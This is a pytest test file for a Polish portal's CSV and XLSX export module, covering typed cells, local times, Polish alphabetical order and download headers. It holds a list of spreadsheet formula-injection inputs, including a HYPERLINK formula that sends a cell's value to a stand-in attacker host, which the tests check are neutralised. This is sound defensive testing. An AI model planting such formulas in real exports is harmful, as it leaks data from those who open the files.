"""The portal's export module: typed cells, neutralised formulas, Polish order."""

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from razem import exports
from razem.exports import DATE, DATETIME, DECIMAL, INTEGER, Column, Table

WARSAW = zoneinfo.ZoneInfo("Europe/Warsaw")
ATTACKS = ['=HYPERLINK("http://zlo.example/?x="&A1,"Kliknij")', "=1+2", "@SUM(A1:A9)"]
MORE_ATTACKS = ["+48 600 100 200", "-5+3", "  =1+2", "\tTAB", "\rCR"]


def _table(rows):
    return Table(
        title="Rejestracje: test/próba",
        columns=[
            Column("Nazwisko", lambda r: r["name"]),
            Column("Liczba", lambda r: r["count"], INTEGER),
            Column("Opłata", lambda r: r["fee"], DECIMAL),
            Column("Dzień", lambda r: r["day"], DATE),
            Column("Zapisano", lambda r: r["at"], DATETIME),
        ],
        rows=rows,
    )


def _row(name, **extra):
    row = {
        "name": name,
        "count": 3,
        "fee": Decimal("300.50"),
        "day": datetime.date(2026, 6, 15),
        # 08:30 UTC is 10:30 in Warsaw in summer
        "at": datetime.datetime(2026, 6, 1, 8, 30, tzinfo=datetime.UTC),
    }
    row.update(extra)
    return row


def _csv_rows(table):
    content = "".join(exports.csv_lines(table))
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def _sheet(table):
    with exports.xlsx_file(table) as handle:
        return load_workbook(io.BytesIO(handle.read())).active


def test_csv_neutralises_every_formula_start():
    table = _table([_row(text) for text in ATTACKS + MORE_ATTACKS])
    names = [row[0] for row in _csv_rows(table)[1:]]
    assert names == ["'" + text for text in ATTACKS + MORE_ATTACKS]


def test_csv_keeps_harmless_text_as_typed():
    table = _table([_row("Źdźbło, „cytat”; średnik"), _row("e-mail: a@b.pl")])
    assert [r[0] for r in _csv_rows(table)[1:]] == [
        "Źdźbło, „cytat”; średnik",
        "e-mail: a@b.pl",
    ]


def test_csv_has_bom_semicolons_and_local_times():
    rows = _csv_rows(_table([_row("Nowak")]))
    assert rows[0] == ["Nazwisko", "Liczba", "Opłata", "Dzień", "Zapisano"]
    assert rows[1] == ["Nowak", "3", "300,50", "2026-06-15", "2026-06-01 10:30"]


def test_xlsx_writes_formulas_as_string_cells():
    sheet = _sheet(_table([_row(text) for text in ATTACKS + MORE_ATTACKS]))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML keeps no bare carriage return: it reads back as a line feed
    expected = [text.replace("\r", "\n") for text in ATTACKS + MORE_ATTACKS]
    assert [c.value for c in cells] == expected
    assert {c.data_type for c in cells} == {"s"}


def test_xlsx_types_numbers_and_dates_in_local_time():
    sheet = _sheet(_table([_row("Nowak")]))
    name, count, fee, day, at = next(sheet.iter_rows(min_row=2))
    assert count.value == 3 and count.data_type == "n"
    assert fee.value == pytest.approx(300.5) and fee.data_type == "n"
    assert fee.number_format == "#,##0.00"
    assert day.is_date and day.value.date() == datetime.date(2026, 6, 15)
    assert at.is_date and at.value == datetime.datetime(2026, 6, 1, 10, 30)
    assert at.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_has_frozen_header_filter_and_widths():
    sheet = _sheet(_table([_row("A"), _row("B")]))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet.column_dimensions["A"].width == 24
    assert sheet.title == "Rejestracje  test próba"
    assert sheet["A1"].font.bold


def test_xlsx_of_many_rows_is_written_in_write_only_mode():
    sheet = _sheet(_table([_row(f"Osoba {n}") for n in range(600)]))
    assert sheet.max_row == 601


def test_polish_collation_orders_diacritics_after_their_letter():
    names = ["Żak", "Zając", "Łukasik", "Lis", "Ćwik", "Cebula", "Nowak", "Ńa", "Ąb"]
    names += ["Śliwa", "Sowa", "źródło", "Ziółko", "adam", "Óla", "Oko", "ęko", "Ela"]
    ordered = exports.sorted_polish(names, lambda n: n)
    assert ordered == [
        "adam", "Ąb", "Cebula", "Ćwik", "Ela", "ęko", "Lis", "Łukasik", "Nowak",
        "Ńa", "Oko", "Óla", "Sowa", "Śliwa", "Zając", "Ziółko", "źródło", "Żak",
    ]  # fmt: skip


def test_polish_collation_sorts_by_several_keys():
    people = [("Łoś", "Anna"), ("Los", "Żaneta"), ("Los", "Adam")]
    assert exports.sorted_polish(people, lambda p: p[0], lambda p: p[1]) == [
        ("Los", "Adam"),
        ("Los", "Żaneta"),
        ("Łoś", "Anna"),
    ]


def test_content_disposition_has_an_ascii_fallback_and_the_utf8_name():
    header = exports.content_disposition("Łódź – rejestracje.csv")
    assert header.startswith('attachment; filename="lodz-rejestracje.csv"; ')
    assert "filename*=UTF-8''%C5%81%C3%B3d%C5%BA%20%E2%80%93%20rejestracje.csv" in (
        header
    )


def test_responses_carry_the_header_and_the_mimetype():
    table = _table([_row("Nowak")])
    response = exports.xlsx_response(table, "zażółć.xlsx")
    assert response["Content-Type"] == exports.XLSX_MIMETYPE
    assert response["Content-Disposition"].startswith(
        'attachment; filename="zazolc.xlsx"'
    )
    response.file_to_stream.close()
    response = exports.csv_response(table, "a.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeffNazwisko;")


def test_a_column_of_unknown_kind_is_refused():
    with pytest.raises(ValueError, match="unknown column kind"):
        Column("X", str, "money")
